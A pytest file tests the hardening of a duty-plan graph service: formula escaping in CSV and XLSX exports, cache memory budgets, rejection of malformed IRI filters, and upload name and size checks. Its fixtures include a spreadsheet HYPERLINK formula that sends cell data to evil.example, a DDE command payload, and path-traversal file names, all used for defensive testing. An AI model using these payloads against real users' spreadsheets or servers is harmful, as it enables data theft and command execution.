"""Hostile input that used to get through (issue 21): duty texts that a spreadsheet would run as formulas,
kept answers that grew without a memory bound, filter values that reached pyoxigraph and came back as 500,
and uploads read before their token was checked, oversized chunked uploads answered 400 and long file names
answered 500."""
from __future__ import annotations

import asyncio
import csv
import io
import json
from typing import Any
from urllib.parse import quote

import openpyxl
import pyoxigraph as ox
import pytest
from conftest import CHENGDU, LINTONG
from fastapi.testclient import TestClient

from dutygraph.graph.load import load_files
from dutygraph.service import output
from dutygraph.service.answer_cache import MIB, AnswerCache, estimate_bytes
from dutygraph.service.app import Settings, create_app
from dutygraph.service.sparql import Outcome

TOKEN = "hostile-token-0123456789abcdef"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&B3,"点击查看")', "+1+1", "-2+3", "@SUM(A1:A9)"]
PLAN = CHENGDU.stem


def _client(store: Any, **settings: Any) -> TestClient:
    return TestClient(create_app(Settings(timeout_s=10, **settings), store=store), raise_server_exceptions=False)


def _rss() -> int:
    with open("/proc/self/status") as status:
        return next(int(line.split()[1]) * 1024 for line in status if line.startswith("VmRSS:"))


# ------------------------------------------------------------------ 1. formulas stay text in csv and xlsx

@pytest.fixture(scope="module")
def formula_store(tmp_path_factory) -> ox.Store:
    """Chengdu's table with the statements of rows 1–4 replaced by formula-like text."""
    lines = CHENGDU.read_text(encoding="utf-8").split("\n")
    for number, formula in enumerate(FORMULAS, start=1):
        at = next(i for i, line in enumerate(lines) if line.startswith(f"{number}\t"))
        cells = lines[at].split("\t")
        lines[at] = "\t".join([cells[0], formula, *cells[2:]])
    path = tmp_path_factory.mktemp("formulas") / CHENGDU.name
    path.write_text("\n".join(lines), encoding="utf-8")
    store = ox.Store()
    load_files(store, [path])
    return store


@pytest.fixture(scope="module")
def formula_client(formula_store) -> TestClient:
    return _client(formula_store)


def test_formula_texts_reach_excel_as_text(formula_client):
    response = formula_client.get("/api/tasks", params={"plan": PLAN, "format": "xlsx"})
    assert response.status_code == 200, response.text
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    texts = {row[header.index("number")].value: row[header.index("text")] for row in sheet.iter_rows(min_row=2)}
    for number, formula in enumerate(FORMULAS, start=1):
        cell = texts[number]
        assert (cell.value, cell.data_type) == (formula, "s"), number
    assert sheet.cell(row=2, column=header.index("number") + 1).data_type == "n"     # numbers stay numbers


def test_formula_texts_are_escaped_and_quoted_in_csv(formula_client):
    text = formula_client.get("/api/tasks", params={"plan": PLAN, "format": "csv"}).text
    rows = list(csv.DictReader(io.StringIO(text)))
    by_number = {row["number"]: row["text"] for row in rows}
    for number, formula in enumerate(FORMULAS, start=1):
        assert by_number[str(number)] == "'" + formula
        assert f'"\'{formula.replace(chr(34), chr(34) * 2)}"' in text, number     # quoted as well


def test_cli_csv_escapes_formula_texts(formula_store, tmp_path):
    from typer.testing import CliRunner

    from dutygraph.service.cli import app

    path = tmp_path / "store"
    disk = ox.Store(str(path))
    disk.bulk_extend(formula_store)
    disk.flush()
    del disk
    result = CliRunner().invoke(app, ["tasks", "--plan", PLAN, "--format", "csv", "--store", str(path)])
    assert result.exit_code == 0, result.output
    first = next(row for row in csv.DictReader(io.StringIO(result.output)) if row["number"] == "1")
    assert first["text"] == "'" + FORMULAS[0]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tSUM", "\rSUM", "=cmd|' /C calc'!A0"])
def test_every_formula_start_is_neutralised(text):
    items = [{"text": text, "count": -3, "share": 0.5, "flag": True, "none": None, "list": [text, "b"]}]
    rows = list(csv.reader(io.StringIO(output.to_csv(items))))
    assert rows[1] == ["'" + text, "-3", "0.5", "True", "", "'" + text + "、b"]
    cells = list(openpyxl.load_workbook(io.BytesIO(output.to_xlsx(items))).active[2])
    assert [(c.value, c.data_type) for c in cells[:4]] == [(text, "s"), (-3, "n"), (0.5, "n"), ("True", "s")]
    assert (cells[5].value, cells[5].data_type) == (text + "、b", "s")


def test_control_characters_do_not_break_an_xlsx():
    book = openpyxl.load_workbook(io.BytesIO(output.to_xlsx([{"text": "市应急局\x01\x0b牵头"}])))
    assert book.active["A2"].value == "市应急局\ufffd\ufffd牵头"


# ------------------------------------------------------------------ 2. kept answers have a memory budget

def test_300_large_sparql_answers_stay_within_the_budget():
    """300 distinct 7.8 MB /sparql results (the size the endpoint keeps) into a 64 MiB budget: the accounted
    bytes never pass the budget and the process grows by about the budget (2 GB before)."""
    cache = AnswerCache(max_bytes=64 * MIB)
    size = int(7.8 * MIB)
    before = _rss()
    for i in range(300):
        found, _, generation = cache.lookup(("sparql", i))
        assert not found
        cache.keep(("sparql", i), Outcome(200, bytes([i % 251]) * size, "text/csv"), generation)
        assert cache.stats()["bytes"] <= 64 * MIB
    stats = cache.stats()
    assert stats["budget_bytes"] == 64 * MIB and stats["entries"] == 8 and stats["bytes"] >= 8 * size
    assert cache.lookup(("sparql", 299))[0] and not cache.lookup(("sparql", 0))[0]     # the newest stay
    assert _rss() - before < 128 * MIB


def test_an_answer_over_a_quarter_of_the_budget_is_not_kept():
    cache = AnswerCache(max_bytes=8 * MIB)
    assert cache.get("big", lambda: b"x" * (3 * MIB)) and cache.stats()["refused"] == 1
    assert cache.get("big", lambda: b"fresh") == b"fresh"
    cache.get("rows", lambda: [{"text": "市应急局" * 50, "n": i} for i in range(20_000)])   # ~13 MB of dicts
    assert cache.stats()["entries"] == 1 and cache.stats()["refused"] == 2


def test_least_recently_used_answers_go_first_when_over_budget():
    cache = AnswerCache(max_bytes=4 * MIB)
    for key in "abcd":
        cache.get(key, lambda: b"x" * (900 << 10))
    cache.get("a", lambda: b"recomputed")                 # a is used again: b is now the oldest
    cache.get("e", lambda: b"y" * (900 << 10))
    assert cache.get("a", lambda: b"gone") != b"gone" and cache.get("b", lambda: b"gone") == b"gone"
    assert cache.stats()["bytes"] <= 4 * MIB


def test_estimates_are_close_for_bytes_and_on_the_high_side_for_answers(loaded_store):
    import tracemalloc

    from dutygraph.graph import questions

    assert MIB <= estimate_bytes(Outcome(200, b"x" * MIB)) < MIB + 4096
    tracemalloc.start()
    tasks = questions.find_tasks(loaded_store)
    held = tracemalloc.get_traced_memory()[0]
    tracemalloc.stop()
    assert held <= estimate_bytes(tasks) <= 3 * held


def test_the_sparql_endpoint_keeps_answers_within_cache_mb(loaded_store):
    client = _client(loaded_store, cache_mb=8)
    sizes = []
    for i in range(10):
        query = f"SELECT * WHERE {{ GRAPH ?g {{ ?s ?p ?o }} }} LIMIT 5000 # {i}"
        response = client.get("/sparql", params={"query": query}, headers={"Accept": "text/csv"})
        assert response.status_code == 200
        sizes.append(len(response.content))
    answers = client.get("/healthz").json()["answers"]
    assert answers["budget_bytes"] == 8 * MIB and answers["bytes"] <= 8 * MIB
    assert answers["bytes"] >= 3 * min(sizes) and answers["entries"] < 10


def test_cache_mb_is_a_serve_option():
    from typer.testing import CliRunner

    from dutygraph.service.cli import app

    result = CliRunner().invoke(app, ["serve", "--help"], env={"COLUMNS": "200"})
    assert "--cache-mb" in result.output


# ------------------------------------------------------------------ 3. bad filter values are 4xx

BAD_IRIS = ["http://x/a b", "https://w3id.org/dutygraph/id/<bad>", "http://a\x01b", 'https://x/"q"', "http:// "]


@pytest.fixture(scope="module")
def client() -> TestClient:
    store = ox.Store()
    load_files(store, [CHENGDU, LINTONG])
    return _client(store, allow_load=True, token=TOKEN)


@pytest.mark.parametrize("value", BAD_IRIS + ["x\x01y", "部门" * 2500])
@pytest.mark.parametrize("path, name", [("/api/tasks", "department"), ("/api/tasks", "facility"),
                                        ("/api/shared-facilities", "department"), ("/api/shared-facilities", "facility"),
                                        ("/api/tasks", "plan"), ("/api/indicators", "plan"), ("/api/alignments", "task")])
def test_bad_filter_values_answer_400_naming_the_parameter(client, path, name, value):
    response = client.get(path, params={name: value})
    assert response.status_code == 400, (response.status_code, response.text[:200])
    assert response.json()["detail"].startswith(f"{name}: ")


@pytest.mark.parametrize("value", ["<bad>", "a b", "市应急局"])
def test_plain_names_still_filter_as_names(client, value):
    response = client.get("/api/tasks", params={"department": value})
    assert response.status_code == 200
    assert bool(response.json()) == (value == "市应急局")


def test_no_route_answers_500_to_a_malformed_iri(client):
    schema = client.get("/openapi.json").json()
    tried = 0
    for path, item in schema["paths"].items():
        params = [p["name"] for p in item.get("get", {}).get("parameters", []) if p["in"] == "query"]
        if path == "/sparql" or "{" in path:
            continue
        for name in params:
            if name in ("format", "explain", "limit", "offset", "depth", "min_departments", "min_score"):
                continue
            for value in BAD_IRIS:
                response = client.get(path, params={name: value, **({"q": "燃气"} if name != "q" else {})})
                tried += 1
                assert response.status_code < 500, (path, name, value, response.text[:200])
    for page in ("/tasks/", "/departments/", "/facility-types/", "/api/tasks/", "/api/departments/", "/viz/expand?node="):
        for value in BAD_IRIS:
            assert client.get(page + quote(value, safe="")).status_code in (400, 404, 422), (page, value)
    assert tried > 40


# ------------------------------------------------------------------ 4. uploads

def _asgi_post(app: Any, headers: dict[str, str], body: bytes, chunk: int = 64 << 10) -> tuple[int, int]:
    """(status, body bytes the app read) for a POST /api/load sent straight to the ASGI app."""
    consumed, status = 0, 0
    parts = [body[i:i + chunk] for i in range(0, len(body), chunk)] or [b""]

    async def receive() -> dict:
        nonlocal consumed
        if not parts:
            return {"type": "http.disconnect"}
        part = parts.pop(0)
        consumed += len(part)
        return {"type": "http.request", "body": part, "more_body": bool(parts)}

    async def send(message: dict) -> None:
        nonlocal status
        if message["type"] == "http.response.start":
            status = message["status"]

    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST", "scheme": "http",
             "path": "/api/load", "raw_path": b"/api/load", "query_string": b"", "root_path": "",
             "headers": [(k.lower().encode(), v.encode()) for k, v in headers.items()],
             "client": ("127.0.0.1", 1), "server": ("127.0.0.1", 80)}
    asyncio.run(app(scope, receive, send))
    return status, consumed


def _multipart(*parts: tuple[str, str | None, bytes], boundary: str = "hostile-boundary") -> tuple[bytes, str]:
    """A multipart/form-data body written by hand, so file names reach the server byte for byte."""
    out = b""
    for field, filename, data in parts:
        disposition = f'form-data; name="{field}"' + (f'; filename="{filename}"' if filename is not None else "")
        out += f"--{boundary}\r\nContent-Disposition: {disposition}\r\n\r\n".encode() + data + b"\r\n"
    return out + f"--{boundary}--\r\n".encode(), f"multipart/form-data; boundary={boundary}"


@pytest.mark.parametrize("settings, header, status", [
    ({"allow_load": True, "token": TOKEN}, None, 401),
    ({"allow_load": True, "token": TOKEN}, "Bearer wrong-token-0123456789abc", 401),
    ({"token": TOKEN}, f"Bearer {TOKEN}", 403),
])
def test_uploads_are_refused_before_their_body_is_read(loaded_store, settings, header, status):
    app = create_app(Settings(**settings), store=loaded_store)
    body, content_type = _multipart(("files", "lintong_plan.txt", LINTONG.read_bytes()))
    headers = {"content-type": content_type, **({"authorization": header} if header else {})}
    assert _asgi_post(app, headers, body) == (status, 0)


def test_an_oversized_chunked_upload_is_413(loaded_store):
    client = _client(loaded_store, allow_load=True, token=TOKEN, max_upload_bytes=256 << 10)
    body, content_type = _multipart(("files", "big.txt", b"x" * (400 << 10)))

    def chunks():  # no Content-Length: the limit is found while the multipart parser reads
        for i in range(0, len(body), 16 << 10):
            yield body[i:i + 16 << 10]

    response = client.post("/api/load", content=chunks(), headers={"Content-Type": content_type, **AUTH})
    assert response.status_code == 413 and "at most 262144 bytes" in response.json()["detail"]


@pytest.mark.parametrize("name, message", [
    ("应" * 100 + ".txt", "304 bytes in UTF-8, at most 200"),
    ("a" * 300 + ".txt", "bytes in UTF-8, at most 200"),
    ("plan\x01.txt", "control"),
    ("plan\u202e.txt", "control or invisible formatting"),
    ("../../etc/plan.txt", "would leave the upload folder"),
    ("docs/.hidden.txt", "empty or hidden"),
    ("plan", "no type suffix"),
    ("plan.", "no type suffix"),
])
def test_bad_upload_names_are_400_naming_the_problem(name, message):
    store = ox.Store()
    client = _client(store, allow_load=True, token=TOKEN)
    body, content_type = _multipart(("files", name, LINTONG.read_bytes()))
    response = client.post("/api/load", content=body, headers={"Content-Type": content_type, **AUTH})
    assert response.status_code == 400 and message in response.json()["detail"], response.text[:300]
    assert len(store) == 0


@pytest.mark.parametrize("name", ["C:\\Users\\me\\lintong_plan.txt", "uploads/lintong_plan.txt"])
def test_folders_in_upload_names_are_dropped(name):
    client = _client(ox.Store(), allow_load=True, token=TOKEN)
    body, content_type = _multipart(("files", name, LINTONG.read_bytes()))
    response = client.post("/api/load", content=body, headers={"Content-Type": content_type, **AUTH})
    assert response.status_code == 200, response.text[:300]
    assert [p["plan"] for p in response.json()["plans"]] == ["lintong_plan"]


@pytest.mark.parametrize("parts, content_type, status, message", [
    ([("layout", None, b"prose-plan")], None, 400, "no documents given"),
    ([("files", None, b"just text")], None, 400, "must be file uploads"),
    ([], "application/json", 415, "multipart/form-data"),
])
def test_uploads_without_documents_are_clean_4xx(client, parts, content_type, status, message):
    body, multipart = _multipart(*parts)
    response = client.post("/api/load", content=body if content_type is None else json.dumps({"files": []}),
                           headers={"Content-Type": content_type or multipart, **AUTH})
    assert response.status_code == status and message in response.json()["detail"], response.text[:300]


def test_the_upload_form_is_still_described_in_the_openapi_schema(client):
    operation = client.get("/openapi.json").json()["paths"]["/api/load"]["post"]
    schema = operation["requestBody"]["content"]["multipart/form-data"]["schema"]
    assert schema["required"] == ["files"] and schema["properties"]["files"]["type"] == "array"
